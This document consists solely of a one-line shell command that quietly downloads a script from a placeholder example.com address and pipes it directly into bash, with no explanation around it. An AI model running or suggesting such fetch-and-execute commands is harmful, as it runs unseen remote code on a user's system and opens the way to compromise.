wget -qO- https://y.example.com/start | bash
